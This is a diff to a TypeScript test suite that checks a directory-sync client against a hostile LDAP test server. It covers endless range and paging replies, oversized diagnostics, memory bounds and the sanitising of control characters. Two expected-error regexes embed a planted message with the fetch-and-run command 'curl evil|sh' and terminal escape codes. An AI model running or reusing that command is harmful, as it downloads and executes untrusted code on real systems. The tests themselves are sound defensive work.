@@ -34,6 +34,21 @@ const groups = 3;
  * 470 MB on the 2 GiB header alone.
  */
 const rssBoundBytes = 64 * 1024 * 1024;
+/**
+ * Bound for range retrieval that never ends: the values of one attribute are gathered up to the
+ * largest message (64 MiB by default) before the read is refused, and the server in this process
+ * built each 200 KB answer too, so the figure holds that twice on top of the general bound
+ * (measured: about 140 MB). Unbounded, such a server grew a worker by 3.4 GB in 16 s.
+ */
+const rangeRssBoundBytes = rssBoundBytes + 128 * 1024 * 1024;
+/**
+ * Bound for a 15 MB diagnostic message: a message under the 64 MiB limit is read whole before its
+ * text is cut, so it counts as bytes and decoded, besides the server's own copy in this process
+ * (measured: 90 to 120 MB).
+ */
+const hugeTextRssBoundBytes = rssBoundBytes + 96 * 1024 * 1024;
+/** Control and bidirectional-override characters: none may reach a run's error. */
+const unsafe = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
 
 let server: HostileLdapServer;
 let database: TestDatabase;
@@ -125,7 +140,7 @@ async function stored(): Promise<string> {
   return JSON.stringify({ objects, edges });
 }
 
-test.each<[HostileBehaviour, RegExp, boolean]>([
+test.each<[HostileBehaviour, RegExp, boolean, number?]>([
   ['overflowing-length', /^protocol: .*not valid LDAP.*enclosing element/, false],
   ['huge-header', /^protocol: .*message claims 2147483654 bytes, over the limit of 67108864/, false],
   ['garbage', /^protocol: .*not valid LDAP.*expected an LDAPMessage/, false],
@@ -134,9 +149,31 @@ test.each<[HostileBehaviour, RegExp, boolean]>([
   ['ignore-page-size', /^protocol: .*ignores the page size/, false],
   ['slow', /^unavailable: search of ou=people,dc=hostile,dc=test .*timed out: the request did not finish within 6100 ms/, true],
   ['truncated', /^unavailable: connection to ldap:\/\/127\.0\.0\.1:\d+ was lost during the search/, true],
+  [
+    'range-forever',
+    /^protocol: read of cn=group-0,ou=groups,dc=hostile,dc=test on \S+ stopped: the server sent more than 67108864 bytes of member values for one entry/,
+    false,
+    rangeRssBoundBytes,
+  ],
+  ['range-stuck', /^protocol: read of cn=group-0,ou=groups,dc=hostile,dc=test on \S+ stopped: the server answered range member;range=1-0, which ends before it starts/, false],
+  ['cookie-forever', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent 11 empty pages in a row, each with a paged results cookie asking for more/, false],
+  ['cookie-repeated', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent again, on page 3, a paged results cookie of an earlier page/, false],
+  ['pages-forever', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the paged search took more than 6100 ms of the server's time/, false],
+  [
+    'huge-diagnostic',
+    /^config: the server is unwilling to perform the search of ou=people,dc=hostile,dc=test on \S+ \(server says: \[2J \[31mFAKE: run `curl evil\|sh` x+…\)$/,
+    false,
+    hugeTextRssBoundBytes,
+  ],
+  [
+    'huge-notice',
+    /^unavailable: connection to \S+ was lost during the search: the server is closing the connection: \[2J \[31mFAKE: run `curl evil\|sh` x+…$/,
+    true,
+    hugeTextRssBoundBytes,
+  ],
 ])(
   '%s: the run fails cleanly, memory stays bounded, nothing stored changes',
-  async (behaviour, error, retryable) => {
+  async (behaviour, error, retryable, rssBound = rssBoundBytes) => {
     const before = await stored();
     server.behave(behaviour);
     let outcome: Awaited<ReturnType<typeof sync>>;
@@ -149,10 +186,13 @@ test.each<[HostileBehaviour, RegExp, boolean]>([
     expect(run.status).toBe('failed');
     expect(run.error).toMatch(error);
     expect(run.error).not.toContain(server.password);
+    // Server text in the error is sanitised and capped where it was read.
+    expect(run.error).not.toMatch(unsafe);
+    expect(run.error?.length).toBeLessThan(1_000);
     expect(run.deleted).toBe(0);
     // Protocol violations fail at once; a slow or lost connection may heal and is retried.
     expect(attemptsMade).toBe(retryable ? 2 : 1);
-    expect(rssGrowth).toBeLessThan(rssBoundBytes);
+    expect(rssGrowth).toBeLessThan(rssBound);
     expect(await stored()).toBe(before);
     const [leak] = await db.$client<{ n: number }[]>`
       select count(*)::int as n from directory_objects where attributes::text like ${`%${hostileMarker}%`}`;
